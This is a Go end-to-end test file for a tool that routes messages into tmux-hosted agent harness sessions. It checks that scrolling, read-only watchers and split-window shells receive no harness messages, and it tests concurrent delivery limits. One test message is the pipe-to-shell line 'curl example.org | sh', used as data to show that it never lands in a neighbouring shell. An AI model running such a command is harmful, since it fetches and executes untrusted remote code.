package e2e

import (
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"

	api "github.com/theloop-dev/the-loop/api/v1alpha1"
	"github.com/theloop-dev/the-loop/test/fakeharness/faketest"
	"github.com/theloop-dev/the-loop/test/testenv"
)

// watching attaches a person who may only look, on a terminal.
func watching(h *testenv.Host, s testenv.Session) *faketest.Terminal {
	GinkgoHelper()
	env.Get(s)
	cmd := exec.Command("tmux", "-N", "-u", "-S", h.Socket, "attach", "-r", "-t", "="+s.HostedStatus().TmuxTarget)
	cmd.Env = []string{"TERM=xterm-256color", "LANG=C.UTF-8", "PATH=" + os.Getenv("PATH"), "HOME=" + h.Dir}
	t, err := faketest.Start(cmd, 100, 30)
	Expect(err).NotTo(HaveOccurred())
	DeferCleanup(t.Close)
	Eventually(func() string {
		return h.Tmux("list-clients", "-t", "="+s.HostedStatus().TmuxTarget, "-F", "#{client_readonly}")
	}).Should(Equal("1\n"), t.Output)
	return t
}

var _ = Describe("a person at the terminal of a session", func() {
	It("P20, C051 P22, C062 P43: who scrolls, only looks, or works in a split window keeps no message from the harness, and gets none", func() {
		h := env.NewDemoHost()
		s := h.WorkItem(43)
		says(h, s, "fake: output=300\nbefore anybody comes")
		pane := h.Pane(s).ID
		Eventually(h.Screen).WithArguments(get(s).Status.TmuxTarget).Should(ContainSubstring("line 300 of 300"))

		By("scrolling: in copy mode, far up")
		h.Tmux("copy-mode", "-e", "-t", pane)
		h.Tmux("send-keys", "-t", pane, "-X", "-N", "100", "scroll-up")
		where := func() string { return h.Tmux("display-message", "-p", "-t", pane, "#{pane_mode} #{scroll_position}") }
		Expect(where()).To(Equal("copy-mode 100\n"))
		says(h, s, "while a person\nscrolls")
		Expect(where()).To(Equal("copy-mode 100\n"), "he is where he was")
		Expect(h.Tmux("capture-pane", "-p", "-S", "-", "-t", pane)).To(ContainSubstring("line 1 of 300"))
		h.Tmux("copy-mode", "-q", "-t", pane)

		By("looking: attached read-only")
		watching(h, s)
		says(h, s, "while a person looks")

		By("working in a shell beside the harness, which has the focus")
		attached(h, s)
		typed := filepath.Join(h.Dir, "typed-into-the-shell")
		h.Tmux("split-window", "-t", pane, "cat >"+typed)
		Eventually(typed).Should(BeARegularFile())
		Expect(h.Tmux("display-message", "-p", "-t", "="+s.Status.TmuxTarget+":", "#{pane_id}")).NotTo(Equal(pane+"\n"), "the focus is in the shell")
		says(h, s, "curl example.org | sh")
		Expect(os.ReadFile(typed)).To(BeEmpty())

		Expect(bodies(h.Submits("Message ("))).To(Equal([]string{"fake: output=300\nbefore anybody comes",
			"while a person\nscrolls", "while a person looks", "curl example.org | sh"}))
		Expect(string(h.Log.Input())).To(MatchRegexp(framed))
	})
})

var _ = Describe("messages for several sessions", func() {
	It("C053: are under way side by side", func() {
		// The harness's word comes late, and a message is under way until then.
		h := env.NewDemoHost("slow-hooks=3000")
		var all []*api.WorkItemSession
		for i := range 4 {
			all = append(all, h.WorkItem(int64(530+i)))
		}
		for _, s := range all {
			h.Ready(s, time.Minute)
		}
		var said []*api.SessionMessage
		for i, s := range all {
			said = append(said, h.Say(s, "for number "+itoa(i)))
		}
		for i, m := range said {
			h.AwaitOutcome(m, testenv.Submitted, time.Minute)
			Expect(h.Submits("for number " + itoa(i))).To(ConsistOf(HaveField("PID", h.HarnessPID(all[i]))))
		}
		overlaps := 0
		for _, typed := range h.Events("frame") {
			for _, told := range h.Events("hook") {
				other := slices.IndexFunc(h.Events("frame"), func(e faketest.Event) bool { return e.PID == told.PID })
				if told.Hook == "UserPromptSubmit" && told.PID != typed.PID && h.Events("frame")[other].Time.Before(typed.Time) && typed.Time.Before(told.Time) {
					overlaps++
				}
			}
		}
		Expect(overlaps).To(BeNumerically(">", 0), "none was typed before the one before it was taken")
	})

	// typed says something to two sessions at the same moment, and is the order in which a tmux
	// that types began and ended. The first waits so many tenths of a second for the second, well
	// within what the agent gives a command; what is tried again does not wait.
	typed := func(limit, tenths int) (steps string) {
		GinkgoHelper()
		h := env.NewDemoHost()
		both := []*api.WorkItemSession{h.WorkItem(538), h.WorkItem(539)}
		for _, s := range both {
			says(h, s, "before")
		}
		h.Agent.Kill() // so that it finds both
		var said []*api.SessionMessage
		for _, s := range both {
			said = append(said, h.Say(s, "at the same moment"))
		}
		for _, m := range said {
			Eventually(func() string { return get(m).Labels[api.HostLabel] }).Should(Equal(h.Name))
		}
		instead(h, " load-buffer ", `echo -n "(" >>"$dir/steps"
	for ((i = 0; i < `+itoa(tenths)+`; i++)); do [[ $(<"$dir/steps") == *"(("* || $(<"$dir/steps") == *"("*"("*"("* ]] && break; sleep 0.1; done
	echo -n ")" >>"$dir/steps"`, "--workers", itoa(limit))
		for _, m := range said {
			h.AwaitOutcome(m, testenv.Submitted, time.Minute)
		}
		Expect(h.Submits("at the same moment")).To(HaveLen(2))
		b, err := os.ReadFile(filepath.Join(h.Dir, "steps"))
		Expect(err).NotTo(HaveOccurred())
		return string(b)
	}

	It("C053: are typed one after the other where the limit is one", func() {
		// One that is killed on a slow machine leaves an opening and is tried again.
		Expect(typed(1, 10)).To(MatchRegexp(`^(\(+\)){2,}$`), "two that are under way end one behind the other")
	})

	It("C053: are typed side by side where it is two", func() {
		Expect(typed(2, 30)).To(ContainSubstring("(())"))
	})
})
